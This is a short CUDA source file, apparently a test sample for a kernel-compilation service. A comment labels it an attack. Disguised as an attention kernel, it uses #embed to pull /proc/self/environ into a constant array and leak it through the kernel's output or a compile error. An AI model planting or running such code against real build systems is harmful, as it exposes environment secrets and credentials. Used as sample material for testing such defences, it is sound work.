// Attack: #embed (C23, accepted by some C++ front ends) turns a file's bytes into an array initialiser, so the kernel carries /proc/self/environ into its output or a compile error.
__constant__ unsigned char leaked[] = {
#embed "/proc/self/environ"
};
extern "C" __global__ void attention_fwd_f16_d64(float* out) { out[0] = leaked[0]; }
